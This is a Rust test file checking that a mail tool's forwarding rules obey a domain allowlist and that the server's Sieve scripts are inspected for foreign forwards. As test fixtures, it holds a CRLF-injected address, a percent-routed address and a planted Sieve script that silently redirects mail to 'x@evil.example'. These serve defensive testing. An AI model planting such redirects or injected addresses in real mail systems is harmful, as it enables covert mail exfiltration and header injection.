//! `sharemail rule` with rules that forward: where they may, and what the server is told.

use std::fs;

use crate::provider::sieve::{ScriptClient, deliver};
use crate::provider::{Cyrus, Dovecot, Mailbox, Ran, on_both, run};

/// A run with a profile that lets rules forward to `domains`.
fn rule(mailbox: &Mailbox, domains: &str, typed: &[&str]) -> Ran {
    let mut command = mailbox.provider.sharemail();
    if !domains.is_empty() {
        command.env("SHAREMAIL_FORWARD_DOMAINS", domains);
    }
    let mut words = vec!["rule", typed[0], &mailbox.address];
    words.extend(&typed[1..]);
    words.push("-vv");
    run::run(&mut command, words)
}

fn add(mailbox: &Mailbox, domains: &str, name: &str, then: &str) -> Ran {
    let when = "from = \"*@bank.example\"";
    rule(
        mailbox,
        domains,
        &["add", name, "--when", when, "--then", then],
    )
}

#[test]
fn rules_forward_where_the_profile_lets_them_and_nowhere_else() {
    for mailbox in on_both(&["Invoices"], 1) {
        let then = "forward = \"boss@example.org\"";
        for (domains, typed, why) in [
            ("", then, "does not name that domain"),
            ("example.org.test", then, "does not name that domain"),
            (
                "example.org",
                "forward = \"a@x.example.org\"",
                "does not name that domain",
            ),
            (
                "example.org",
                "forward = \"a%b.test@example.org\"",
                "stands before the @",
            ),
            (
                "example.org",
                "forward = \"a\\r\\nx@example.org\"",
                "control character",
            ),
            (
                "example.test",
                &format!("forward = \"{}\"", mailbox.address),
                "the mailbox itself",
            ),
        ] {
            let code = if why.contains(" the @") || why.contains("control") {
                65
            } else {
                77
            };
            let ran = add(&mailbox, domains, "a", typed).exits(code).says(why);
            assert!(!ran.stderr.contains("APPEND"), "{ran:?}");
        }
        let domains = "example.org, B\u{fc}cher.example";
        let then =
            "forward = [\"Boss@Example.ORG\", \"b@b\u{fc}cher.example\"], move = \"Invoices\"";
        add(&mailbox, domains, "a", then).exits(0);
        let listed = rule(&mailbox, domains, &["list"]).exits(0);
        listed.says(
            "forward = [\"Boss@example.org\", \"b@xn--bcher-kva.example\"], move = \"Invoices\"",
        );
        let script = rule(&mailbox, domains, &["export"]).exits(0);
        let script = script
            .says("\"copy\"")
            .says("redirect :copy \"Boss@example.org\";");
        assert!(
            script.stdout.find("redirect") < script.stdout.find("fileinto \""),
            "{script:?}"
        );
        rule(&mailbox, domains, &["check"]).exits(0);
        // What the settings say counts for nothing where the profile says something else.
        let barred = rule(&mailbox, "example.org", &["check", "-o", "json"])
            .exits(2)
            .json();
        assert_eq!(barred["findings"][0]["finding"], "forward-barred");
        rule(&mailbox, "", &["export"])
            .exits(77)
            .says("boss@example.org".replace('b', "B").as_str());
        let shown = rule(&mailbox, "", &["show", "a"]).exits(0);
        shown.says("does not name that domain").says_not("redirect");
    }
}

#[test]
fn what_a_file_says_is_measured_by_the_profile_too() {
    for mailbox in on_both(&[], 1) {
        let name = format!("{}.forward", mailbox.address);
        let path = mailbox.provider.dir().join(name);
        let path = path.to_str().unwrap();
        let rules = format!(
            "[mailbox.\"{}\"]\n[[mailbox.\"{0}\".rule]]\nname = \"a\"\nwhen = {{ from = \"*@bank.example\" }}\n\
             then = {{ forward = \"boss@example.org\" }}\n",
            mailbox.address
        );
        fs::write(path, rules).unwrap();
        let ran = |domains: &str, words: &[&str]| {
            let mut command = mailbox.provider.sharemail();
            command.env("SHAREMAIL_FORWARD_DOMAINS", domains);
            run::run(&mut command, words)
        };
        let plan = format!("{path}.plan");
        for words in [
            &["plan", "-f", path][..],
            &["apply", "-f", path, "--yes"],
            &["check", "-f", path],
        ] {
            ran("example.com", words)
                .exits(77)
                .says("does not name that domain");
        }
        ran("example.org", &["plan", "-f", path, "--out", &plan]).exits(0);
        let saved = ["apply", &plan, "--yes"];
        ran("example.com", &saved)
            .exits(77)
            .says("does not name that domain");
        ran("example.org", &saved).exits(0);
        ran("example.org", &["plan", "-f", path, "--detailed-exitcode"]).exits(0);
        let exported = ran("example.org", &["export", &mailbox.address]).exits(0);
        exported.says("forward = \"boss@example.org\"");
    }
}

#[test]
fn the_server_forwards_as_the_rules_say_and_no_further_than_it_can() {
    for provider in [Dovecot::filtering(), Cyrus::filtering()] {
        let mailbox = Mailbox::on(provider, &[], 1);
        let scripts = || ScriptClient::of(provider, &mailbox.address);
        let domains = "example.org";
        let ran = add(&mailbox, domains, "a", "forward = \"boss@example.org\"").exits(0);
        ran.says("mail that comes: 1 rule: 3 of 3 changes made");
        assert!(
            scripts()
                .get("sharemail")
                .contains("    redirect :copy \"boss@example.org\";\n")
        );
        // Nothing is put for a profile that does not let it.
        let ran = rule(&mailbox, "", &["install"]).exits(77);
        assert!(!ran.stderr.contains("PUTSCRIPT"), "{ran:?}");
        // The server says after login to how many it forwards a message (Pigeonhole: 4).
        let five = "forward = [\"a@example.org\", \"b@example.org\", \"c@example.org\", \"d@example.org\"]";
        let ran = add(&mailbox, domains, "b", five);
        match ran.stderr.contains("MAXREDIRECTS") {
            true => {
                let ran = ran.exits(3).says("to 5 addresses, and the server takes 4");
                assert!(!ran.stderr.contains("C: PUTSCRIPT"), "{ran:?}");
                rule(&mailbox, domains, &["remove", "b"]).exits(0);
                add(
                    &mailbox,
                    domains,
                    "b",
                    &format!("{}, stop = true", five.replace(", \"d@example.org\"", "")),
                )
                .exits(0);
                // What somebody else's script forwards counts too.
                let mut client = scripts();
                client.put(
                    "hers",
                    "redirect :copy \"x@evil.example\";\nkeep;\n"
                        .replace(" :copy", "")
                        .as_str(),
                );
                client.activate("hers");
                rule(&mailbox, domains, &["install"])
                    .exits(77)
                    .says("1 address besides");
            }
            false => drop(ran.exits(0)),
        }
        let mut client = scripts();
        client.put(
            "hers",
            "if size :over 1G { redirect \"x@evil.example\"; }\nkeep;\n",
        );
        client.activate("hers");
        rule(&mailbox, domains, &["remove", "b"]);
        rule(&mailbox, domains, &["check"])
            .exits(2)
            .says("foreign-forward")
            .says("x@evil.example");
        rule(&mailbox, domains, &["remove", "a"]).exits(0);
        deliver(
            provider,
            &mailbox.address,
            &["From: x@y.example\nSubject: x\n\nx\n"],
        );
    }
}
